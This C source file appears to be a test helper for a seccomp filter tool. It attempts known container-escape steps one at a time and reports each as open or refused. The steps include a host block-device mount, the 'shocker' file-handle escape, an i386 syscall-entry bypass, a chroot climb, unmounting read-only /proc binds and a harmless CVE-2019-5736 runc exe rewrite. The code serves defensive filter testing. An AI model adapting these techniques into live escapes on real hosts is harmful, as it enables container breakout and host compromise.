/* The container-escape catalogue for the seccompctl tests: one attempt per
 * run, each a step that container articles show root inside a container
 * taking to reach the host or the kernel.
 *
 *     escapes NAME [ARG...]
 *
 * prints one line on stdout:
 *
 *     NAME open DETAIL        the attempt got through
 *     NAME refused ERRNO ...  the kernel (or the filter) said no
 *
 * and exits 0; a usage or setup error exits 2. Every attempt is harmless:
 * mounts are read-only and made in the container's own mount namespace, no
 * module is ever loaded (the images are empty), the only reboot command is
 * LINUX_REBOOT_CMD_CAD_OFF and only as PID 1 of a child PID namespace (where
 * the kernel answers EINVAL after its permission check), and the only sysrq
 * key written is 'h' (the help text in the kernel log).
 *
 * Attempts: mknod-mount MAJ:MIN FSTYPE MARKER CONTENT, tmpfs, unshare-user,
 * unshare-mnt, i386-unshare, setns, shocker MARKER CONTENT, init-module,
 * finit-module, reboot, keyctl, bpf, perf, ptrace, sysrq, procsys,
 * chroot MARKER.
 * Helper modes for the same tests: "bind PORT", "euid", "call NAME ARG...",
 * "exe-reopen PID". */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <linux/reboot.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* The new mount API (linux/mount.h clashes with sys/mount.h in glibc 2.36). */
#ifndef FSOPEN_CLOEXEC
#define FSOPEN_CLOEXEC 0x1
#define FSCONFIG_SET_STRING 1
#define FSCONFIG_CMD_CREATE 6
#define FSMOUNT_CLOEXEC 0x1
#define MOUNT_ATTR_RDONLY 0x1
#define MOUNT_ATTR_NOSUID 0x2
#define MOUNT_ATTR_NODEV 0x4
#define MOUNT_ATTR_NOEXEC 0x8
#define MOVE_MOUNT_F_EMPTY_PATH 0x4
#endif

/* The inode of the initial PID namespace (include/linux/proc_ns.h). */
#define PROC_PID_INIT_INO 0xEFFFFFFCU

static const char *name;

static const char *ename(int err) {
    const char *s = strerrorname_np(err);
    return s ? s : "E?";
}

static int open_(const char *detail) {
    printf("%s open %s\n", name, detail);
    return 0;
}

static int refused(int err, const char *step) {
    printf("%s refused %s (%s)\n", name, ename(err), step);
    return 0;
}

/* For calls whose harmless use fails anyway (an empty module image, a
 * reboot command a child PID namespace rejects): an errno other than these
 * means the call got past the permission check. */
static int gate(int err, const char *step) {
    if (err == EPERM || err == EACCES || err == ENOSYS)
        return refused(err, step);
    char detail[128];
    snprintf(detail, sizeof detail, "(%s passed the permission check, then %s)", step, ename(err));
    return open_(detail);
}

static int need(int argc, int n) {
    if (argc < n + 2) {
        fprintf(stderr, "escapes %s: %d argument(s) needed\n", name, n);
        exit(2);
    }
    return 0;
}

/* Reads the file NAME below the directory fd and says whether it holds
 * CONTENT (the host marker the test created outside the rootfs). */
static int holds(int dir, const char *file, const char *content) {
    while (*file == '/')
        file++;
    int fd = openat(dir, file, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return 0;
    char buf[256];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n < 0)
        return 0;
    buf[n] = 0;
    return strcmp(buf, content) == 0;
}

/* mknod of the host's root block device, a read-only mount of it, and a
 * read of a file only the host has. */
static int mknod_mount(int argc, char **argv) {
    need(argc, 4);
    unsigned maj, min;
    if (sscanf(argv[2], "%u:%u", &maj, &min) != 2) {
        fprintf(stderr, "escapes: MAJOR:MINOR expected\n");
        return 2;
    }
    const char *node = "/dev/escapes-root", *dir = "/dev/escapes-mnt";
    if (mknod(node, S_IFBLK | 0600, makedev(maj, min)) != 0)
        return refused(errno, "mknod");
    mkdir(dir, 0700);
    /* mount(2) with MS_RDONLY would be EBUSY (the host has the superblock
     * read-write); the new API gives a read-only mount of it. */
    int fs = syscall(SYS_fsopen, argv[3], FSOPEN_CLOEXEC);
    if (fs < 0)
        return refused(errno, "fsopen");
    if (syscall(SYS_fsconfig, fs, FSCONFIG_SET_STRING, "source", node, 0) != 0)
        return refused(errno, "fsconfig source");
    if (syscall(SYS_fsconfig, fs, FSCONFIG_CMD_CREATE, NULL, NULL, 0) != 0)
        return refused(errno, "fsconfig create");
    int mnt = syscall(SYS_fsmount, fs, FSMOUNT_CLOEXEC,
                      MOUNT_ATTR_RDONLY | MOUNT_ATTR_NOSUID | MOUNT_ATTR_NODEV | MOUNT_ATTR_NOEXEC);
    if (mnt < 0)
        return refused(errno, "fsmount");
    if (syscall(SYS_move_mount, mnt, "", AT_FDCWD, dir, MOVE_MOUNT_F_EMPTY_PATH) != 0)
        return refused(errno, "move_mount");
    int d = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    int read_it = d >= 0 && holds(d, argv[4], argv[5]);
    if (d >= 0)
        close(d);
    umount2(dir, MNT_DETACH);
    unlink(node);
    return open_(read_it ? "(mounted the host's root read-only and read the host's marker)"
                         : "(mounted the host's root device; the marker was not there)");
}

static int tmpfs(void) {
    const char *dir = "/dev/escapes-tmpfs";
    mkdir(dir, 0700);
    if (mount("none", dir, "tmpfs", MS_NOSUID | MS_NODEV | MS_NOEXEC, "size=64k") != 0)
        return refused(errno, "mount tmpfs");
    umount2(dir, MNT_DETACH);
    return open_("(mounted a tmpfs)");
}

static int unshare_(int flag, const char *what) {
    if (unshare(flag) != 0)
        return refused(errno, what);
    return open_(what);
}

/* unshare(CLONE_NEWNS) through the i386 entry (int 0x80, number 310): a
 * filter that only knows x86_64 numbers lets it through. In a child, since
 * a kernel without the i386 entry kills the caller. */
static int i386_unshare(void) {
    pid_t child = fork();
    if (child < 0)
        return refused(errno, "fork");
    if (child == 0) {
        long ret;
        __asm__ volatile("int $0x80" : "=a"(ret) : "a"(310L), "b"((long)CLONE_NEWNS) : "memory");
        _exit(ret == 0 ? 0 : ret < 0 && -ret < 256 ? (int)-ret : 255);
    }
    int status;
    waitpid(child, &status, 0);
    if (WIFSIGNALED(status)) {
        printf("%s refused ENOSYS (int 0x80: killed by signal %d, no i386 entry here)\n", name,
               WTERMSIG(status));
        return 0;
    }
    if (WEXITSTATUS(status) != 0)
        return refused(WEXITSTATUS(status), "int 0x80 unshare CLONE_NEWNS");
    return open_("(int 0x80 unshare CLONE_NEWNS)");
}

static int setns_(void) {
    int fd = open("/proc/self/ns/net", O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return refused(errno, "open /proc/self/ns/net");
    if (setns(fd, CLONE_NEWNET) != 0)
        return refused(errno, "setns");
    return open_("(setns to a network namespace fd)");
}

/* "shocker": a file handle for inode 2 (the root directory of an ext2/3/4
 * file system; generation 0 matches any) opened through any fd on the same
 * file system reaches the host's root, outside the container's. */
static int shocker(int argc, char **argv) {
    need(argc, 2);
    struct {
        struct file_handle h;
        unsigned char bytes[MAX_HANDLE_SZ];
    } fh;
    int mount_id;
    fh.h.handle_bytes = MAX_HANDLE_SZ;
    if (name_to_handle_at(AT_FDCWD, "/", &fh.h, &mount_id, 0) != 0)
        return refused(errno, "name_to_handle_at");
    unsigned int ino_gen[2] = {2, 0};
    fh.h.handle_type = 1; /* FILEID_INO32_GEN */
    fh.h.handle_bytes = sizeof ino_gen;
    memcpy(fh.h.f_handle, ino_gen, sizeof ino_gen);
    int mount_fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    int fd = open_by_handle_at(mount_fd, &fh.h, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (fd < 0)
        return refused(errno, "open_by_handle_at");
    return open_(holds(fd, argv[2], argv[3])
                     ? "(opened the host's root by handle and read the host's marker)"
                     : "(open_by_handle_at opened inode 2; the marker was not there)");
}

static int init_module_(void) {
    static char image[1];
    if (syscall(SYS_init_module, image, 0UL, "") == 0)
        return open_("(an empty module loaded?!)");
    return gate(errno, "init_module");
}

static int finit_module_(void) {
    int fd = memfd_create("empty-module", MFD_CLOEXEC);
    if (fd < 0)
        return refused(errno, "memfd_create");
    if (syscall(SYS_finit_module, fd, "", 0) == 0)
        return open_("(an empty module loaded?!)");
    return gate(errno, "finit_module");
}

static int reboot_(void) {
    struct stat st;
    if (getpid() != 1 || stat("/proc/self/ns/pid", &st) != 0 || st.st_ino == PROC_PID_INIT_INO) {
        fprintf(stderr, "escapes reboot: only as PID 1 of a child PID namespace\n");
        return 2;
    }
    if (syscall(SYS_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2, LINUX_REBOOT_CMD_CAD_OFF, NULL) == 0)
        return open_("(reboot CAD_OFF accepted)");
    return gate(errno, "reboot CAD_OFF");
}

static int keyctl_(void) {
    long key = syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL);
    if (key < 0)
        return refused(errno, "keyctl JOIN_SESSION_KEYRING");
    return open_("(joined a new session keyring)");
}

static int bpf_(void) {
    union bpf_attr attr;
    memset(&attr, 0, sizeof attr);
    attr.map_type = BPF_MAP_TYPE_ARRAY;
    attr.key_size = 4;
    attr.value_size = 4;
    attr.max_entries = 1;
    int fd = syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof attr);
    if (fd < 0)
        return refused(errno, "bpf BPF_MAP_CREATE");
    close(fd);
    return open_("(created a BPF map)");
}

/* A counter that includes kernel mode: beyond perf_event_paranoid 1 that
 * needs CAP_PERFMON. */
static int perf(void) {
    struct perf_event_attr attr;
    memset(&attr, 0, sizeof attr);
    attr.type = PERF_TYPE_SOFTWARE;
    attr.size = sizeof attr;
    attr.config = PERF_COUNT_SW_CPU_CLOCK;
    attr.disabled = 1;
    int fd = syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0);
    if (fd < 0)
        return refused(errno, "perf_event_open");
    close(fd);
    return open_("(opened a perf event counting kernel mode)");
}

static int uid_is(pid_t pid, unsigned uid) {
    char path[64], line[256];
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    FILE *f = fopen(path, "re");
    int yes = 0;
    unsigned r, e;
    while (f && fgets(line, sizeof line, f))
        if (sscanf(line, "Uid: %u %u", &r, &e) == 2)
            yes = r == uid && e == uid;
    if (f)
        fclose(f);
    return yes;
}

/* PTRACE_ATTACH to a process of another uid in the same container. */
static int ptrace_(void) {
    pid_t child = fork();
    if (child < 0)
        return refused(errno, "fork");
    if (child == 0) {
        if (setresgid(1000, 1000, 1000) != 0 || setresuid(1000, 1000, 1000) != 0)
            _exit(1);
        for (;;)
            pause();
    }
    for (int i = 0; i < 500 && !uid_is(child, 1000); i++)
        usleep(10000);
    int ok = ptrace(PTRACE_ATTACH, child, 0, 0) == 0;
    int err = errno;
    if (ok) {
        waitpid(child, NULL, __WALL);
        ptrace(PTRACE_DETACH, child, 0, 0);
    }
    kill(child, SIGKILL);
    waitpid(child, NULL, __WALL);
    return ok ? open_("(attached to a uid 1000 process)") : refused(err, "ptrace PTRACE_ATTACH");
}

/* Only the help key. pivot binds the file read-only; root with
 * CAP_SYS_ADMIN can take that bind away first. */
static int sysrq(void) {
    const char *path = "/proc/sysrq-trigger";
    const char *how = "(wrote 'h' to /proc/sysrq-trigger)";
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0 && errno == EROFS) {
        if (umount2(path, MNT_DETACH) != 0)
            return refused(errno, "umount2 of the read-only /proc/sysrq-trigger");
        how = "(took away the read-only bind, wrote 'h' to /proc/sysrq-trigger)";
        fd = open(path, O_WRONLY | O_CLOEXEC);
    }
    if (fd < 0)
        return refused(errno, "open /proc/sysrq-trigger");
    if (write(fd, "h", 1) != 1)
        return refused(errno, "write 'h'");
    close(fd);
    return open_(how);
}

/* The same escape through a read-only /proc path every kernel has: pivot
 * binds /proc/sys read-only; root with CAP_SYS_ADMIN takes the bind away
 * and writes /proc/sys/kernel/hostname, writing back the value it read
 * (the container's own UTS namespace: nothing changes). */
static int procsys(void) {
    const char *path = "/proc/sys/kernel/hostname";
    const char *how = "(wrote /proc/sys/kernel/hostname)";
    char value[256];
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return refused(errno, "open /proc/sys/kernel/hostname for reading");
    ssize_t n = read(fd, value, sizeof value);
    close(fd);
    if (n <= 0)
        return refused(n < 0 ? errno : EIO, "read /proc/sys/kernel/hostname");
    fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0 && errno == EROFS) {
        if (umount2("/proc/sys", MNT_DETACH) != 0)
            return refused(errno, "umount2 of the read-only /proc/sys");
        how = "(took away the read-only bind of /proc/sys, wrote /proc/sys/kernel/hostname)";
        fd = open(path, O_WRONLY | O_CLOEXEC);
    }
    if (fd < 0)
        return refused(errno, "open /proc/sys/kernel/hostname for writing");
    if (write(fd, value, (size_t)n) != n)
        return refused(errno, "write /proc/sys/kernel/hostname");
    close(fd);
    return open_(how);
}

/* The classic chroot escape: chroot into a subdirectory with the cwd left
 * outside it, climb with "..", chroot to where the climb ends, look for a
 * marker the host has outside the rootfs. */
static int chroot_(int argc, char **argv) {
    need(argc, 1);
    struct stat st;
    if (chdir("/dev") != 0)
        return refused(errno, "chdir /dev");
    mkdir("escapes-chroot", 0755);
    if (chroot("escapes-chroot") != 0)
        return refused(errno, "chroot");
    for (int i = 0; i < 64; i++)
        if (chdir("..") != 0)
            return refused(errno, "chdir ..");
    if (chroot(".") != 0)
        return refused(errno, "chroot .");
    if (stat(argv[2], &st) == 0)
        return open_("(the host's marker is visible)");
    printf("%s refused contained (the climb ended at the container's root)\n", name);
    return 0;
}

/* bind PORT: a TCP socket on 0.0.0.0:PORT. */
static int bind_(int argc, char **argv) {
    need(argc, 1);
    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (s < 0)
        return refused(errno, "socket");
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[2]))};
    if (bind(s, (struct sockaddr *)&a, sizeof a) != 0)
        return refused(errno, "bind");
    return open_(argv[2]);
}

/* call NAME [ARG...]: the raw system call, to compare with seccompctl --test. */
static int call(int argc, char **argv) {
    need(argc, 1);
    static const struct {
        const char *name;
        long nr;
    } calls[] = {
        {"getpid", SYS_getpid}, {"socket", SYS_socket}, {"personality", SYS_personality},
        {"clone3", SYS_clone3}, {"ioctl", SYS_ioctl},   {"mount", SYS_mount},
        {"uname", SYS_uname},   {"getppid", SYS_getppid},
    };
    long nr = -1, a[6] = {0};
    for (size_t i = 0; i < sizeof calls / sizeof calls[0]; i++)
        if (strcmp(calls[i].name, argv[2]) == 0)
            nr = calls[i].nr;
    if (nr < 0) {
        fprintf(stderr, "escapes call: unknown %s\n", argv[2]);
        return 2;
    }
    for (int i = 3; i < argc && i < 9; i++)
        a[i - 3] = strtoul(argv[i], NULL, 0);
    long r = syscall(nr, a[0], a[1], a[2], a[3], a[4], a[5]);
    if (r < 0)
        printf("%s errno:%s\n", argv[2], ename(errno));
    else
        printf("%s ok\n", argv[2]);
    return 0;
}

/* exe-reopen PID: the runc CVE-2019-5736 attack on a chain step. Hold
 * /proc/PID/exe (O_PATH) while PID runs the step, wait until it has exec'd
 * on, then reopen the held file for writing and write its own first byte
 * back (so that even success changes no content). */
static int exe_reopen(int argc, char **argv) {
    need(argc, 1);
    char exe[64], was[256], now[256];
    snprintf(exe, sizeof exe, "/proc/%s/exe", argv[2]);
    int held = open(exe, O_PATH | O_CLOEXEC);
    ssize_t n = readlink(exe, was, sizeof was - 1);
    if (held < 0 || n < 0) {
        perror(exe);
        return 2;
    }
    was[n] = 0;
    printf("holding %s\n", was);
    fflush(stdout);
    for (int i = 0;; i++) {
        n = readlink(exe, now, sizeof now - 1);
        now[n < 0 ? 0 : n] = 0;
        if (n < 0 || strcmp(now, was) != 0)
            break;
        if (i > 2000) {
            fprintf(stderr, "escapes exe-reopen: %s did not exec on\n", exe);
            return 2;
        }
        usleep(10000);
    }
    char self[64];
    snprintf(self, sizeof self, "/proc/self/fd/%d", held);
    unsigned char first;
    int rd = open(self, O_RDONLY | O_CLOEXEC);
    if (rd < 0 || pread(rd, &first, 1, 0) != 1) {
        perror("read the held file");
        return 2;
    }
    int fd = open(self, O_WRONLY | O_CLOEXEC);
    if (fd < 0)
        return refused(errno, "reopen for writing");
    if (pwrite(fd, &first, 1, 0) != 1)
        return refused(errno, "write");
    return open_("(wrote to the file the step was executed from)");
}

static int euid(void) {
    printf("euid %u\n", geteuid());
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 2) {
        fprintf(stderr, "usage: escapes NAME [ARG...]\n");
        return 2;
    }
    name = argv[1];
    if (!strcmp(name, "mknod-mount"))
        return mknod_mount(argc, argv);
    if (!strcmp(name, "tmpfs"))
        return tmpfs();
    if (!strcmp(name, "unshare-user"))
        return unshare_(CLONE_NEWUSER, "unshare CLONE_NEWUSER");
    if (!strcmp(name, "unshare-mnt"))
        return unshare_(CLONE_NEWNS, "unshare CLONE_NEWNS");
    if (!strcmp(name, "i386-unshare"))
        return i386_unshare();
    if (!strcmp(name, "setns"))
        return setns_();
    if (!strcmp(name, "shocker"))
        return shocker(argc, argv);
    if (!strcmp(name, "init-module"))
        return init_module_();
    if (!strcmp(name, "finit-module"))
        return finit_module_();
    if (!strcmp(name, "reboot"))
        return reboot_();
    if (!strcmp(name, "keyctl"))
        return keyctl_();
    if (!strcmp(name, "bpf"))
        return bpf_();
    if (!strcmp(name, "perf"))
        return perf();
    if (!strcmp(name, "ptrace"))
        return ptrace_();
    if (!strcmp(name, "procsys"))
        return procsys();
    if (!strcmp(name, "sysrq"))
        return sysrq();
    if (!strcmp(name, "chroot"))
        return chroot_(argc, argv);
    if (!strcmp(name, "bind"))
        return bind_(argc, argv);
    if (!strcmp(name, "call"))
        return call(argc, argv);
    if (!strcmp(name, "exe-reopen"))
        return exe_reopen(argc, argv);
    if (!strcmp(name, "euid"))
        return euid();
    fprintf(stderr, "escapes: unknown attempt %s\n", name);
    return 2;
}
